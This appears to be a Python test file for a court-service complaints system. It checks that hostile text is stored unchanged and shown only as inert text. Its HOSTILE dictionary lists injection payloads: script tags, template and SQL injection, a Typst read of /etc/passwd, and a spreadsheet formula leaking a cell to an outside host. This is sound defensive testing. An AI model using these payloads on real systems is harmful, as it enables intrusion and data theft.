"""Hostile input as text: kept as written, shown harmless, never run, never lost (C1, G2)."""

from __future__ import annotations

import json
from base64 import b64decode
from typing import Any

import pytest
from complaints_world import CASE, OFFICER, ComplaintsWorld, world
from hypothesis import given, settings
from hypothesis import strategies as st

from cafcass_contracts import complaints
from cafcass_contracts import complaints_commands as commands
from cafcass_contracts.codec import decode, encode
from cafcass_contracts.feedback import Category, DelayReason, LearningPoint, LearningSource, Outcome
from cafcass_contracts.intake import CorrespondenceRecorded
from cafcass_contracts.problems import UnreadableError
from cafcass_contracts.safeguarding import Route
from cafcass_contracts.topics import LARGEST_EVENT
from cafcass_contracts.values import CorrespondenceKind, YesNo
from cafcass_documents.testing import Page, squeezed, text_of
from cafcass_documents.texts import readable
from complaints.domain.correspondence.held import CORRESPONDENCE
from complaints.domain.names import plain_contact
from complaints.domain.writing.guard import LONGEST_FOR_OTHERS, LONGEST_WORDS
from complaints.domain.writing.held import DOCUMENTS

HOSTILE = {
    "script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }} {% raw %} #sys.inputs ${x} %s %(x)s",
    "typst": '#import "x": * \n= Heading\n#read("/etc/passwd")',
    "formula": '=HYPERLINK("https://example.org/?x="&A1;"click")',
    "right to left": "\u202eevil\u202c and \u2067more\u2069",
    "null byte": "before\x00after",
    "control": "\x1b[31mred\x07\x08\x0c",
    "json": '{"complaint_id": "x"}\n--\n',
    "sql": "'; DROP TABLE complaints; --",
    "only spaces": "  \n\t ",
    "emoji": "\U0001f621\U0001f469\u200d\U0001f467",
    "long word": "a" * 5000,
}


def filed(text: str | None, **more: str) -> tuple[ComplaintsWorld, str]:
    """A representation with these words, on its way to the court."""
    there = world()
    there.case()
    complaint = there.complain(text, kind=CorrespondenceKind.REPRESENTATION, **more)
    assert there.categorise(complaint, Category.REPRESENTATION, about=()) == "accepted"
    said = there.do(
        commands.FileRepresentation,
        complaint,
        response="Noted.",
        signed_as="Olive Officer",
        tells_private_matters=YesNo.NO,
    )
    assert said == "accepted"
    there.do_jobs()
    return there, complaint


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_kept_as_written_and_shown_as_nothing_but_text(name: str) -> None:
    text = HOSTILE[name]
    there, complaint = filed(text)
    (id_,) = there.complaint(complaint).parts
    content = there.row(CORRESPONDENCE, id_).content
    assert content is not None
    assert content.text == text
    said = there.last(complaints.RepresentationFiled)
    document = there.row(DOCUMENTS, said.document_id)
    page = Page(document.html)
    assert not {"script", "img", "a", "iframe", "svg"} & {tag for tag, _ in page.tags}
    assert all(not name.startswith("on") for _, attributes in page.tags for name, _ in attributes)
    shown = squeezed(readable(text))
    assert shown in squeezed(page.text)
    assert b64decode(said.content) == document.pdf
    if shown.isascii():
        there_ = squeezed(text_of(document.pdf))
        assert shown in there_ or there_.count("a") >= len(text), "a word that runs over pages has their feet between"


@pytest.mark.parametrize("name", HOSTILE)
def test_names_addresses_and_words_of_staff_are_text_too(name: str) -> None:
    text = HOSTILE[name]
    there = world()
    there.case()
    complaint = there.complain(sender=text, contact=text)
    assert there.categorise(complaint) == "accepted"
    page = Page(there.row(DOCUMENTS, there.paper(complaint, "acknowledgement")).html)
    assert not {"script", "img"} & {tag for tag, _ in page.tags}
    there.answer_it(complaint, heard=f"x {text}", found=(f"y {text}",), doing=(text,), signed_as=f"z {text}")
    for document in there.rows(DOCUMENTS).values():
        assert not {"script", "img"} & {tag for tag, _ in Page(document.html).tags}


@pytest.mark.parametrize("text", [None, ""])
def test_nothing_at_all_is_a_complaint_that_somebody_reads(text: str | None) -> None:
    there = world()
    there.case()
    complaint = there.complain(text, subject=None, sender=None, contact=None)
    assert "triage" in there.asked(complaint)
    assert there.complaint(complaint).name is None


def test_a_megabyte_of_text_is_kept_whole_and_what_goes_to_the_court_says_where_the_rest_is() -> None:
    text = "word <b>" * (1024 * 1024 // 8)
    there, complaint = filed(text)
    (id_,) = there.complaint(complaint).parts
    content = there.row(CORRESPONDENCE, id_).content
    assert content is not None
    assert content.text == text
    said = there.last(complaints.RepresentationFiled)
    assert len(encode(said)) < LARGEST_EVENT
    assert "This is longer." in there.row(DOCUMENTS, said.document_id).html.decode()


def test_many_long_letters_still_fit_a_message_and_each_is_told_of() -> None:
    there = world()
    there.case()
    complaint = there.complain("x" * 60_000, kind=CorrespondenceKind.REPRESENTATION)
    for number in range(12):
        there.write(f"{number} " + "lorem ipsum " * 5000)
    assert there.categorise(complaint, Category.REPRESENTATION, about=()) == "accepted"
    there.must(commands.FileRepresentation, complaint, response="Noted.", signed_as="Olive Officer")
    there.do_jobs()
    said = there.last(complaints.RepresentationFiled)
    assert len(encode(said)) < LARGEST_EVENT
    page = Page(there.row(DOCUMENTS, said.document_id).html)
    assert page.text.count("Received on") == 13
    assert page.text.count("This is longer.") >= 8


@pytest.mark.parametrize("word", ["lorem ", "<b>&", "\N{CJK UNIFIED IDEOGRAPH-4E2D}", "\N{GRINNING FACE}", "\n"])
def test_as_many_words_of_staff_as_are_taken_fit_a_message_and_more_are_refused(word: str) -> None:
    there = world()
    there.case()
    complaint = there.complain()
    assert there.categorise(complaint) == "accepted"
    room = LONGEST_WORDS - len("Ms Sample" + "z" + "Olive Officer")
    most = (word * LONGEST_WORDS)[: room - 1] + "."
    given: dict[str, Any] = {
        "addressed_to": "Ms Sample",
        "heard": "z",
        "outcome": Outcome.UPHELD,
        "signed_as": "Olive Officer",
        "proofread": True,
    }
    said = there.do(commands.WriteAnswer, complaint, found=(most, "one more"), **given)
    assert said == "refused it is 60,008 characters long, and 60,000 is the most: say it in fewer words"
    assert not [paper for paper in there.complaint(complaint).papers.values() if paper.kind == "answer"]
    there.must(commands.WriteAnswer, complaint, found=(most,), **given)
    there.send_out(complaint, "answer")
    assert len(encode(there.last(complaints.DocumentReleased))) < LARGEST_EVENT


def test_every_word_of_staff_that_goes_out_has_a_most() -> None:
    there = world()
    there.case()
    complaint = there.complain()
    long = "x" * (LONGEST_WORDS + 1)
    alleged = there.categorise(complaint, Category.MISCONDUCT, allegation=long)
    assert alleged.startswith("refused it is 60,008 characters long"), (
        "the answer does not say that it is an allegation (C2)"
    )
    assert there.categorise(complaint, Category.COMPLAINT, Category.REPRESENTATION) == "accepted"
    letters: tuple[tuple[type[commands.ComplaintCommand], dict[str, Any]], ...] = (
        (commands.WriteHoldingLetter, {"reason": DelayReason.COMPLEX, "in_words": long}),
        (commands.FileRepresentation, {"response": long}),
    )
    for kind, words in letters:
        assert "60,000 is the most" in there.do(kind, complaint, signed_as="Olive Officer", **words)
    point = LearningPoint(point="y" * (LONGEST_FOR_OTHERS + 1))
    there.send(commands.AddLearningPoint(by=OFFICER, source=LearningSource.AUDIT, learning=point))
    assert "4,000 is the most that is said to others" in there.answer.reason


@pytest.mark.parametrize("text", [b"\\ud800", b"\\udfff\\ud800"])
def test_half_a_character_is_refused_with_its_place_and_never_read_as_something_else(text: bytes) -> None:
    raw = (
        b'{"correspondence_id":"p","channel":"email","kind":"complaint","received_at":"2026-06-01T09:00:00Z","text":"%s"}'
        % text
    )
    with pytest.raises(UnreadableError, match="is not JSON"):
        decode(CorrespondenceRecorded, raw)


def words(most: int) -> st.SearchStrategy[str]:
    return st.text(st.characters(exclude_categories=["Cs"]), max_size=most)


@settings(max_examples=60, deadline=None)
@given(
    text=st.none() | words(80),
    sender=st.none() | words(40),
    contact=st.none() | words(40),
    child=st.booleans(),
    route=st.sampled_from(list(Route)),
)
def test_anything_that_anybody_writes_is_put_where_it_belongs(
    text: str | None, sender: str | None, contact: str | None, child: bool, route: Route
) -> None:
    there = world()
    there.case()
    id_ = there.write(text, sender=sender, contact=contact, from_child=child, route=route, id_="p")
    piece = there.row(CORRESPONDENCE, id_)
    assert piece.content is not None
    assert (piece.content.text, piece.content.sender, piece.content.contact) == (text, sender, contact)
    assert piece.looked_at
    assert (piece.complaint_id is not None) is (route is Route.COMPLAINTS)


@given(st.text())
def test_a_contact_is_compared_the_same_way_however_often(contact: str) -> None:
    plain = plain_contact(contact)
    assert plain_contact(plain) == plain


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("07700 900123", "+44 7700 900 123", True),
        ("Ada@Example.org", "<ada@example.org>", True),
        ("9 Example Road, Exampleton", "9 example road exampleton", True),
        ("07700 900123", "07700 900124", False),
        ("", "", True),
        ("123", "", True),  # too little to tell anybody from anybody
    ],
)
def test_how_contacts_are_compared(one: str, other: str, same: bool) -> None:
    assert (plain_contact(one) == plain_contact(other)) is same


def test_a_command_with_hostile_words_is_carried_out_as_words() -> None:
    there = world()
    there.case()
    complaint = there.complain()
    for text in HOSTILE.values():
        there.send(commands.RaiseSafeguarding(by=OFFICER, complaint_id=complaint, in_words=text))
        assert there.last(complaints.ConcernNoticed).in_words == text
    assert there.last(complaints.ConcernNoticed).case_id == CASE


@pytest.mark.parametrize("character", ["x", "\x01", "\N{GRINNING FACE}"])
def test_what_bears_on_a_childs_safety_reaches_triage_however_long_it_is(character: str) -> None:
    """T2: as sealed on its topic it is a third larger, and it still fits; what is too long says where the rest is."""
    there = world()
    there.case()
    complaint = there.complain()
    words = "He hit her. " + character * (3 * LARGEST_EVENT // 4 // len(encode_json(character)))
    there.send(commands.RaiseSafeguarding(by=OFFICER, complaint_id=complaint, in_words=words))
    said = there.last(complaints.ConcernNoticed)
    assert said.in_words.startswith("He hit her. ")
    assert said.in_words.endswith("where it was passed on.]")
    assert len(encode(said)) * 4 / 3 < LARGEST_EVENT


def encode_json(text: str) -> bytes:
    return json.dumps(text, ensure_ascii=False).encode()[1:-1]
